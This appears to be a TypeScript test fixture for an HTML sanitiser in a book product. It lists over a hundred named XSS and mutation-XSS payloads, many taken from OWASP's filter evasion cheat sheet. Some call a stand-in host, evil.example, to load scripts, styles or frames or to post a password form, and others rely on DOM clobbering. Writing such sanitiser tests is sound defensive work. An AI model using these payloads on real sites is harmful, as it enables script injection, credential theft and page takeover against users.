// Malicious book content: known attacks on HTML sanitisers, many from OWASP's XSS filter evasion cheat sheet,
// and mutation XSS. Each would call alert(), send a request to EVIL, leave the page or cover it.

/** No test may ever send a request to this host. */
const EVIL = 'https://evil.example';

export const attacks: Record<string, string> = {
  // Scripts
  'a script': '<script>alert(1)</script>',
  'a script from elsewhere': `<script src="${EVIL}/x.js"></script>`,
  'a script without an end': '<script>alert(1)',
  'a script with a slash': '<script/x>alert(1)</script>',
  'a script in capitals': '<SCRIPT>alert(1)</SCRIPT>',
  'a script in a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script behind a bracket': '<<script>alert(1);//<</script>',
  'a tag that hides in another': '<<p>script>alert(1)</script>',
  'a script with NUL in it': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'a script behind a comment': '<!--><script>alert(1)</script>-->',
  'a conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'a script behind CDATA': '<![CDATA[<script>alert(1)</script>]]>',
  'a module': `<script type="module">import "${EVIL}/x.js"</script>`,
  'an import map': `<script type="importmap">{"imports":{"a":"${EVIL}/a.js"}}</script>`,
  'a script in a noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'a processing instruction': '<?xml version="1.0"?><?php alert(1) ?><script>alert(1)</script>',

  // Handlers
  'a broken picture with a handler': '<img src=x onerror=alert(1)>',
  'a handler without quotes or spaces': '<img/src="x"/onerror=alert(1)>',
  'a handler behind quotes': '<img """><script>alert(1)</script>">',
  'a handler in capitals': '<IMG SRC=x OnErRoR=alert(1)>',
  'a handler after a line break': '<img src=x\nonerror\n=\nalert(1)>',
  'a handler after a form feed': '<img\fsrc=x\fonerror=alert(1)>',
  'a handler in entities': '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  'a handler that breaks out of alt': '<img src=x alt="\\"><img src=x onerror=alert(1)>">',
  'a click': '<p onclick="alert(1)">Hi</p>',
  'a pointer': '<section onpointerenter=alert(1) onmouseover=alert(1)>Hi</section>',
  'a focus that comes by itself': '<p tabindex=0 autofocus onfocus=alert(1)>Hi</p>',
  'an animation': '<p style="animation:x" onanimationstart=alert(1) onanimationend=alert(1)>Hi</p>',
  'a body': '<body onload=alert(1) onpageshow=alert(1)>',
  'a details that opens': '<details open ontoggle=alert(1)>Hi</details>',
  'a video': '<video onloadstart=alert(1)><source onerror=alert(1) src=x></video>',
  'a marquee': '<marquee onstart=alert(1)>Hi</marquee>',
  'a popover': '<button popovertarget=x>Go</button><p id=x popover onbeforetoggle=alert(1)>Hi</p>',
  'a dialog':
    '<dialog open onclose=alert(1)><form method=dialog><button>Hi</button></form></dialog>',

  // Addresses
  'a javascript: picture': '<img src="javascript:alert(1)">',
  'a javascript: link': '<a href="javascript:alert(1)">Hi</a>',
  'a javascript: link with a tab': '<a href="java\tscript:alert(1)">Hi</a>',
  'a javascript: link in entities': '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63ript:alert(1)">Hi</a>',
  'a javascript: link behind control characters':
    '<a href="\u0001\u0014javascript:alert(1)">Hi</a>',
  'a link to another window': `<a href="${EVIL}" target="_blank" rel="opener">Hi</a>`,
  'a link that is followed at a click': `<a href="${EVIL}" ping="${EVIL}/ping">Hi</a>`,
  'a data: picture': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'a data: page': '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  'a picture of any protocol': '<img src="//evil.example/x.png">',
  'a picture of another host': `<img src="${EVIL}/pixel.gif" width=1 height=1>`,
  'a picture in a set': `<img srcset="${EVIL}/x.png 1x" sizes="100vw">`,
  'a picture in a picture': `<picture><source srcset="${EVIL}/x.png"><img></picture>`,
  'a picture of a lazy kind': `<img lowsrc="${EVIL}/x" dynsrc="${EVIL}/y" longdesc="${EVIL}/z">`,
  'a picture that is a call': '<img src="/api/auth/user">',
  'a picture that climbs':
    '<img src="/public-objects/../api/login"><img src="/public-objects/%2e%2e/api/login">',
  'a picture with a backslash':
    '<img src="/public-objects/..\\api\\login"><img src="\\\\evil.example\\x">',
  'a map': `<img usemap="#m"><map name=m><area href="javascript:alert(1)" shape=rect></map>`,
  'a quotation with an address': `<blockquote cite="javascript:alert(1)">Hi</blockquote>`,
  'a table with a background': `<table background="javascript:alert(1)"><td background="${EVIL}">Hi</td></table>`,

  // Styles
  'a style': '<style>body{display:none}</style>',
  'a style that imports': `<style>@import "${EVIL}/x.css";</style>`,
  'a style without an end': `<style>@import url(${EVIL}/x.css)`,
  'a stylesheet': `<link rel="stylesheet" href="${EVIL}/x.css">`,
  'a link that is fetched before': `<link rel="preload" as="image" href="${EVIL}/x.png"><link rel="dns-prefetch" href="//evil.example">`,
  'a style that covers the page':
    '<p style="position:fixed;inset:0;z-index:9999;background:red">Hi</p>',
  'a class that covers the page': '<p class="fixed inset-0 z-50 bg-ink">Hi</p>',
  'a style with an address': `<p style="background:url(${EVIL}/x.png)">Hi</p>`,
  'a style with an expression': '<p style="width:expression(alert(1))">Hi</p>',
  'a style with a binding': `<p style="-moz-binding:url(${EVIL}/x.xml#a);behavior:url(x.htc)">Hi</p>`,
  'a style in entities': `<p style="&#x62;ackground:url(${EVIL}/x)">Hi</p>`,

  // Frames and what leaves the page
  'a frame': `<iframe src="${EVIL}"></iframe>`,
  'a frame with its own page': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  'a frame of a script': '<iframe src="javascript:alert(1)"></iframe>',
  'a frame set': `<frameset><frame src="${EVIL}"></frameset>`,
  'an object': `<object data="${EVIL}/x.swf"><param name=movie value="${EVIL}"></object>`,
  'an object of a page':
    '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>',
  'an embed': `<embed src="${EVIL}/x.swf" allowscriptaccess=always>`,
  'an applet': `<applet code=x codebase="${EVIL}"></applet>`,
  'a portal': `<portal src="${EVIL}"></portal>`,
  'a base': `<base href="${EVIL}/"><img src="public-objects/x.png">`,
  'a base with a target': '<base target="_top">',
  'a refresh': `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  'a refresh to a script': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'a policy': `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  'a sound': `<audio autoplay src="${EVIL}/x.mp3"></audio><bgsound src="${EVIL}/x.mid">`,
  'a video of elsewhere': `<video autoplay poster="${EVIL}/x.png" src="${EVIL}/x.mp4"></video>`,

  // Forms
  'a form': `<form action="${EVIL}"><input name=password><button>Sign in again</button></form>`,
  'a form of a script': '<form action="javascript:alert(1)"><input type=submit autofocus></form>',
  'a button of a form elsewhere': '<button form=x formaction="javascript:alert(1)">Go</button>',
  'an input that is a picture': `<input type=image src="${EVIL}/x.png" onerror=alert(1)>`,
  'a select': '<select autofocus onfocus=alert(1)><option>Hi</option></select>',
  'a text area': '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'a file that is asked for': '<input type=file accept="image/*" onchange=alert(1)>',

  // Drawings, formulas, and what a second parsing makes of them
  'a drawing with a script': '<svg><script>alert(1)</script></svg>',
  'a drawing that loads': '<svg onload=alert(1)>',
  'a drawing without spaces': '<svg/onload=alert(1)//',
  'a drawing that is animated':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Hi</text></a></svg>',
  'a drawing that sets': '<svg><set attributeName=onload to=alert(1)></svg>',
  'a drawing that uses another': `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x" /><image href="${EVIL}/x.png" /></svg>`,
  'a page inside a drawing':
    '<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>',
  'a style inside a drawing':
    '<svg><style><img title="</style><img src=x onerror=alert(1)>"></style></svg>',
  'a title inside a drawing':
    '<svg><title><p title="</title><img src=x onerror=alert(1)>"></title></svg>',
  'a description inside a drawing': '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
  'a formula': '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'a formula with a link': '<math href="javascript:alert(1)">Hi</math>',
  'a formula with an annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  'a formula around a table':
    '<math><mi><table><mglyph><style><math><table id="</table><img src=x onerror=alert(1)>">',
  'a formula in a drawing': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'a list in a formula':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'a comment that ends early': '<!-- --!><img src=x onerror=alert(1)> -->',
  'text that is no text': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'text without an end': '<plaintext><img src=x onerror=alert(1)>',
  'words without frames': '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  'a title': '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  'a template': '<template><img src=x onerror=alert(1)><script>alert(1)</script></template>',
  'a template of a shadow': `<p><template shadowrootmode=open><style>@import "${EVIL}/x.css"</style></template></p>`,
  'a slot': '<slot onslotchange=alert(1)>Hi</slot>',
  'an element of its own': '<x-evil onclick=alert(1) style="position:fixed">Hi</x-evil>',
  'entities twice':
    '&amp;lt;img src=x onerror=alert(1)&amp;gt; &lt;script&gt;alert(1)&lt;/script&gt;',
  'entities of a tag': '&#60;script&#62;alert(1)&#60;/script&#62;',
  'UTF-7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'full-width brackets': '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  'a hundred sections deep': `${'<section>'.repeat(400)}<img src=x onerror=alert(1)>`,

  // Names that cover those of the document
  'the name of a body': '<img name=body><form id=body></form><p id=documentElement>Hi</p>',
  'the name of a cookie': '<img name=cookie><img id=getElementById>',
  'names in a row': '<a id=config><a id=config name=url href="https://evil.example">Hi</a></a>',
  'the place of the settings':
    '<p id="client-config">{"identity":{"host":"https://evil.example"}}</p>',
  'the place of the product': '<p id="root">Hi</p><p id="main">Hi</p>',
  'the attributes of a form': '<form id=x><input name=attributes><input name=childNodes></form>',
  'a part of the product':
    '<p role="dialog" aria-modal="true" data-state="open" slot="x" part="y">Hi</p>',
};
